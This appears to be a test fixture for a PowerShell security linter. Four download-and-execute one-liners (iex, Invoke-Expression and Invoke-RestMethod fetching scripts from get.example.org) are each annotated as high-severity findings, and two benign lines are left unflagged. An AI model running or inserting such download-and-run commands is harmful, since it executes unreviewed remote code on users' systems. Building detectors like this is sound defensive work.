iex (iwr https://get.example.org/a.ps1 -UseBasicParsing).Content
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: runs what "https://get.example.org/a.ps1" sends, unread
iex ((New-Object System.Net.WebClient).DownloadString('https://get.example.org/b.ps1'))
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: runs what "https://get.example.org/b.ps1" sends, unread
Invoke-RestMethod https://get.example.org/c.ps1 | Invoke-Expression
#                                                 ^^^^^^^^^^^^^^^^^ high: runs what "https://get.example.org/c.ps1" sends, unread
$script = Invoke-WebRequest -Uri https://get.example.org/d.ps1
Invoke-Expression $script.Content
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: runs what "https://get.example.org/d.ps1" sends, unread
Invoke-WebRequest https://get.example.org/tool.zip -OutFile tool.zip
iex "Get-Date"
